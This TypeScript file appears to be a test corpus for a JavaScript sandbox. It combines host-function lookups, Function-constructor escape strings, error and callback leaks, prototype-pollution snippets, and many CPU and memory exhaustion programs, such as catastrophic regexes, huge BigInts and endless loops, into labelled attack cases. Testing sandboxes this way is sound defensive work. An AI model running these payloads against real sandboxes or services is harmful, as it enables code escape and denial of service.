// Attacks that we wrote, most of them at points where other sandboxes were broken. Most combine a
// way to get a host object with a way to run code through it.

import { type Attack, type AttackKind, payload } from "./run-attack.ts";

/** Expressions that might return a function of the host. */
const functions: readonly string[] = [
  "hostAdd",
  "console.log",
  "hostAsync(1).then",
  "hostAsync(1).constructor.resolve",
  "Object.getOwnPropertyDescriptor(Map.prototype, 'size').get",
  "Object.getOwnPropertyDescriptor(RegExp.prototype, Symbol.replace).value",
  "[][Symbol.iterator]().next",
  "'a'.matchAll(/a/g).next",
  "new Set([1]).union",
  "[1].values().map(x => x).next",
  "(function* () {})().next",
  "(async function* () {})().return",
  "Promise.withResolvers().resolve",
  "Proxy.revocable({}, {}).revoke",
  "new Intl.NumberFormat('en').format",
  "new Intl.Collator().compare",
  "structuredClone",
  "new URL('https://a.b').toString",
  "queueMicrotask",
  "setTimeout",
  "(class extends Array {})",
  "hostAdd.bind(null)",
  "Reflect.get(new Proxy(hostAdd, {}), 'call')",
  "JSON.stringify",
  "crypto.randomUUID",
];

/** Ways to run code with the function `f`. */
const ways: readonly string[] = [
  `f.constructor(${payload})()`,
  `Reflect.construct(f.constructor, [${payload}])()`,
  `Object.getPrototypeOf(f).constructor.call(null, ${payload})()`,
  `new (f.constructor)(${payload})()`,
];

/** Ways to get hold of an error that the host's engine created. */
const errors: readonly string[] = [
  "null.x",
  "undefined()",
  "new Array(-1)",
  "'a'.repeat(-1)",
  "(1).toFixed(101)",
  "BigInt(1.5)",
  "1n + 1",
  "Symbol() + ''",
  "JSON.parse('{')",
  "new RegExp('[')",
  "decodeURIComponent('%')",
  "'a'.normalize('x')",
  "new Intl.NumberFormat('xx-invalid-locale-name-')",
  "new Date(NaN).toISOString()",
  "structuredClone(() => {})",
  "Object.defineProperty(Object.freeze({}), 'a', { value: 1 })",
  "new Uint8Array(2 ** 53)",
  "[].reduce((a) => a)",
  "(() => { const f = () => f(); f() })()",
  "new URL('no url')",
  "await hostThrow()",
  "await hostReject()",
  "await hostAdd(() => 1)",
  "await hostAdd({ get a() { return 1 } })",
  "await hostAdd(new Proxy({}, { ownKeys() { throw new Error('x') } }))",
];

/**
 * Keys that are not strings, or that convert to a different string each time. `o` is a guest
 * function.
 */
const keys: readonly string[] = [
  "(() => { let n = 0; return { toString: () => (n++ ? 'constructor' : 'name') } })()",
  "(() => { let n = 0; return { [Symbol.toPrimitive]: () => (n++ ? 'constructor' : 'length') } })()",
  "['constructor']",
  "new String('constructor')",
  "{ toString: null, valueOf: () => 'constructor' }",
  "new Proxy({}, { get: () => () => 'constructor' })",
];
const accesses: readonly string[] = ["o[k]", "Reflect.get(o, k)", "(({ [k]: v }) => v)(o)", "(o[k] ||= 0)"];

/** Calls of built-ins with a callback that adds everything it receives to `seen`. */
const callbacks: readonly string[] = [
  "[1].map(function () { seen.push(this, arguments) })",
  "[2, 1].sort(function (...all) { seen.push(this, ...all); return 0 })",
  "'a'.replace(/a/, function (...all) { seen.push(this, ...all); return '' })",
  "JSON.parse('[1]', function (...all) { seen.push(this, ...all) })",
  "JSON.stringify({ a: 1 }, function (...all) { seen.push(this, ...all); return 1 })",
  "Array.from({ length: 1 }, function (...all) { seen.push(this, ...all) })",
  "new Promise(function (...all) { seen.push(this, ...all) })",
  "Promise.resolve({ then(...all) { seen.push(this, ...all) } })",
  "await { then(...all) { seen.push(this, ...all); all[0]() } }",
  "hostAsync(1).then.call({ constructor: { [Symbol.species]: function (e) { seen.push(this, e); e(() => 0, () => 0) } } }, 1)",
  "hostAsync(1).finally(function (...all) { seen.push(this, ...all) })",
  "[].concat.call(new Proxy([], { get(...all) { seen.push(...all); return Reflect.get(...all) } }))",
  "class A extends Array { static get [Symbol.species]() { seen.push(this); return A } } new A(1).map((x) => x)",
  "/a/[Symbol.split].call({ constructor: { [Symbol.species]: function (...all) { seen.push(this, ...all); return /a/ } }, flags: '' }, 'a')",
  "for await (const x of { [Symbol.asyncIterator]() { seen.push(this); return { next() { seen.push(this); return { done: true } } } } });",
  "new Map([[1, 2]]).forEach(function (...all) { seen.push(this, ...all) })",
  "Object.groupBy([1], function (...all) { seen.push(this, ...all); return 'a' })",
  "setTimeout(function (...all) { seen.push(this, ...all) }, 1)",
  "queueMicrotask(function (...all) { seen.push(this, ...all) })",
  "hostAdd({ toJSON() { seen.push(this); return 1 }, valueOf() { seen.push(this); return 1 } })",
  "console.log({ toString() { seen.push(this) }, [Symbol.for('nodejs.util.inspect.custom')](...all) { seen.push(this, ...all) } })",
  "throw { toString() { seen.push(this) }, get stack() { seen.push(this) }, get message() { seen.push(this) } }",
];

/** Ways to change objects of the host, if any are shared. */
const pollutions: readonly string[] = [
  "Object.prototype.then = (f) => f(1)",
  "Object.defineProperty(Object.prototype, 'value', { get() { return 1 } })",
  "Array.prototype[0] = 'x'; Array.prototype.push = () => 0",
  "Object.defineProperty(Array.prototype, 0, { set() {} })",
  "Map.prototype.get = Map.prototype.has = Map.prototype.set = () => true",
  "Promise.prototype.then = () => 0; Promise.resolve = () => 0",
  "RegExp.prototype.exec = () => null; String.prototype.replace = () => ''",
  "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => 0",
  "Symbol.prototype[Symbol.toPrimitive] = () => 'constructor'",
  "Error.stackTraceLimit = 1e9; Error.prepareStackTrace = (e, frames) => frames; hostThrow",
  "JSON.stringify = JSON.parse = () => null",
  "Object.freeze(Object.prototype); Object.freeze(Array.prototype); Object.freeze(globalThis)",
  "for (const k of Object.getOwnPropertyNames(globalThis)) try { globalThis[k] = null } catch {}",
  "Object.setPrototypeOf(Object.getPrototypeOf(hostObj.list), null)",
  'Object.assign(hostObj, JSON.parse(\'{"__proto__": {"polluted": 1}}\')); hostAdd(hostObj)',
  'await hostAdd(JSON.parse(\'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}\'))',
];

/** Calls of built-ins that loop for an extremely long time. */
const loops: readonly string[] = [
  "Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1)",
  "Array.prototype.lastIndexOf.call({ length: 2 ** 53 - 1 }, 1)",
  "Array.prototype.includes.call({ length: 2 ** 53 - 1 }, 1)",
  "Array.prototype.every.call({ length: 2 ** 53 - 1 }, () => true)",
  "Array.prototype.findLast.call({ length: 2 ** 53 - 1 }, () => false)",
  "Array.prototype.reverse.call({ length: 2 ** 53 - 1 })",
  "Array.prototype.join.call({ length: 2 ** 32 }, '')",
  "Array.prototype.fill.call({ length: 2 ** 53 - 1 }, 0)",
  "Array.prototype.copyWithin.call({ length: 2 ** 53 - 1 }, 1, 0)",
  "Array.prototype.unshift.call({ length: 2 ** 52, 0: 1 }, 1)",
  "Array.prototype.splice.call({ length: 2 ** 52 }, 0, 1)",
  "Array.prototype.toSorted.call({ length: 2 ** 32 - 1 })",
  "Array.prototype.flat.call({ length: 2 ** 53 - 1 })",
  "Array.from({ length: 2 ** 53 - 1 })",
  "new Array(2 ** 32 - 1).indexOf(1)",
  "new Array(2 ** 32 - 1).sort()",
  "Object.keys(new Proxy({}, { ownKeys: () => ({ length: 2 ** 53 - 1 }) }))",
  "Reflect.apply(() => 0, null, { length: 2 ** 32 })",
  "Math.max.apply(null, { length: 2 ** 32 })",
  "new Set({ [Symbol.iterator]: () => ({ next: () => ({ done: false }) }) })",
  "new Map({ [Symbol.iterator]: () => ({ next: () => ({ done: false, value: [1, 1] }) }) })",
  "new Set([1]).isSubsetOf({ size: Infinity, has: () => true, keys: () => ({ next: () => ({ done: false }) }) }) && new Set([1]).union({ size: 1, has: () => true, keys: () => ({ next: () => ({ done: false, value: 1 }) }) })",
  "Promise.all({ [Symbol.iterator]: () => ({ next: () => ({ done: false, value: 1 }) }) })",
  "Iterator.from({ next: () => ({ done: false }) }).drop(Infinity).next()",
  "Iterator.from({ next: () => ({ done: false }) }).find(() => false)",
  "String.raw({ raw: { length: 2 ** 53 - 1 } })",
  "const a = [1]; a.forEach(() => { a.push(1) }); for (const x of a) a.push(x)",
  "const s = new Set([1]); for (const x of s) { s.delete(x); s.add(x) }",
  "const m = new Map([[1, 1]]); m.forEach((v, k) => { m.delete(k); m.set(k, v) })",
  "let p = Promise.resolve(); const again = () => { p = p.then(again) }; again(); await new Promise(() => {})",
  "await (function again() { return { then: (f) => f(again()) } })()",
  "const again = () => queueMicrotask(again); again(); await new Promise(() => {})",
  "const again = () => setTimeout(again, 0); again(); await new Promise(() => {})",
  "setInterval(() => {}, 0); await new Promise(() => {})",
  "const x = { get a() { return this.a } }; x.a",
  "const p = new Proxy({}, { get: (t, k, r) => r[k] }); p.a",
  "const o = {}; o.toString = () => o + ''; o + ''",
  "(function f() { try { f() } finally { f() } })()",
  "(function f() { try { f() } catch { f() } })()",
  "class A { static { for (;;); } }",
  "`${{ toString() { for (;;); } }}`",
  "const { a = (() => { for (;;); })() } = {}",
  "/(a*)*b/.test('a'.repeat(50_000))",
  "/^(?:a|aa)+$/.test('a'.repeat(200) + 'b')",
  "/(?=(a+))a*b\\1/.test('a'.repeat(50_000))",
  "/(.*)(.*)(.*)(.*)(.*)x/.test('a'.repeat(5_000))",
  "'a'.repeat(100_000).replace(/a*?a*?a*?b/g, '')",
  "'x'.repeat(1_000_000).split(/x*x*y/)",
  "/(?<=(?:a+)+)b/.test('a'.repeat(40) + 'c')",
  "new RegExp('a?'.repeat(40) + 'a'.repeat(40)).test('a'.repeat(39))",
  "/\\s+$/.test(' '.repeat(200_000) + 'x')",
  "2n ** 10_000_000n",
  "(10n ** 200_000n).toString()",
  "let x = 3n; for (;;) x *= x",
  "BigInt('9'.repeat(5_000_000))",
  "let x = 1n; x <<= 1_000_000_000n",
  "BigInt.asUintN(2 ** 30, -1n)",
  "(7n ** 300_000n) % (3n ** 100_000n)",
  "let s = '['.repeat(100_000); JSON.parse(s)",
  "const o = {}; o.o = o; for (;;) { try { JSON.stringify(o) } catch {} }",
  "'a'.repeat(2 ** 20).split('').sort(() => 1).reverse().map((x) => x + x)",
  "'ab'.repeat(500_000).replaceAll('a', (x) => { for (;;); })",
  "new Date(8.64e15).toLocaleString('en', { get timeZone() { for (;;); } })",
];

/** Programs that fill the memory. */
const fillers: readonly string[] = [
  "let s = 'a'; for (;;) s += s",
  "'a'.repeat(2 ** 29)",
  "'a'.padEnd(2 ** 29, 'bc')",
  "new Array(2 ** 26).fill(0).map((_, i) => ({ i }))",
  "const all = []; for (;;) all.push({ a: 1, b: [2] })",
  "const m = new Map(); for (let i = 0; ; i++) m.set(i, i)",
  "const s = new Set(); for (let i = 0; ; i++) s.add('k' + i)",
  "new Uint8Array(2 ** 30)",
  "new ArrayBuffer(2 ** 31)",
  "const all = []; for (;;) all.push(new Float64Array(1_000_000))",
  "new ArrayBuffer(8, { maxByteLength: 2 ** 31 }).resize(2 ** 31 - 1)",
  "Array(1_000_000).fill('x'.repeat(1_000)).join('')",
  "'x'.repeat(1_000_000).replace(/x/g, 'y'.repeat(10_000))",
  "let s = ['a']; for (;;) s = s.concat(s)",
  "let o = {}; for (;;) o = { o, ...o }",
  "const o = {}; for (let i = 0; ; i++) o['k' + i] = i",
  "JSON.stringify(Array(100_000).fill('x'.repeat(1_000)))",
  "structuredClone(Array(1_000_000).fill({ a: [1, 2, 3] }))",
  "for (;;) console.log('x'.repeat(100_000))",
  "const all = []; for (;;) all.push(() => all)",
  "const all = []; for (;;) all.push(Promise.resolve(all.length))",
  "for (;;) hostAsync('x'.repeat(10_000))",
  "let f = (x) => x; for (;;) f = f.bind(null, f)",
  "const all = []; for (;;) all.push(Symbol('x'.repeat(1_000)))",
  "const all = []; for (let i = 0; ; i++) all.push(new RegExp('a'.repeat(100) + i))",
  "'x'.repeat(10_000_000).split('')",
  "[...'x'.repeat(10_000_000)]",
  "encodeURIComponent('\\u{1F600}'.repeat(2_000_000))",
  "new TextEncoder().encode('\\u20ac'.repeat(2 ** 24))",
  "Object.fromEntries(Array.from({ length: 2 ** 22 }, (_, i) => [i, i]))",
  "const a = []; a.length = 2 ** 32 - 1; a.fill(1)",
  "const deep = []; let d = deep; for (;;) { d.push([]); d = d[0] }",
  "let x = 1n; for (;;) x = (x << 1_000_000n) | 1n",
  "`${'a'.repeat(2 ** 24)}${'b'.repeat(2 ** 24)}`.split('').join('--')",
];

/** All attacks of this file. */
export const ownAttacks: readonly Attack[] = [
  ...functions.flatMap((expression) => ways.map((way) => `const f = ${expression}; return ${way}`)).map(as("escape")),
  ...errors
    .map(
      (code) => `return (async () => { try { ${code} } catch (e) { const f = e.constructor; return ${ways[0]} } })()`,
    )
    .map(as("escape", "error")),
  ...errors
    .map(
      (code) =>
        `return (async () => { try { ${code} } catch (e) { return [e.stack, String(e), Object.getOwnPropertyNames(e)] } })()`,
    )
    .map(as("leak")),
  ...keys
    .flatMap((key) => accesses.map((access) => `const o = () => 0, k = ${key}; return ${access}(${payload})()`))
    .map(as("escape", "key")),
  ...callbacks
    .map(
      (code) =>
        `const seen = []; return (async () => { try { ${code} } catch {} await hostAsync(1); return seen.map((value) => { try { const f = value.constructor; return f.constructor(${payload})() } catch (e) { return String(e.stack) } }) })()`,
    )
    .map(as("escape", "callback")),
  ...pollutions
    .map((code) => `return (async () => { ${code}; await hostAsync([1]); return hostThrow() })()`)
    .map(as("pollution")),
  ...loops.map(inAsyncFunction).map(as("dos-cpu")),
  ...fillers.map(inAsyncFunction).map(as("dos-mem")),
];

function inAsyncFunction(code: string): string {
  return `return (async () => { ${code} })()`;
}

function as(kind: AttackKind, family: string = kind): (code: string, index: number) => Attack {
  return (code, index) => ({ id: `own-${family}-${index + 1}`, kind, code });
}
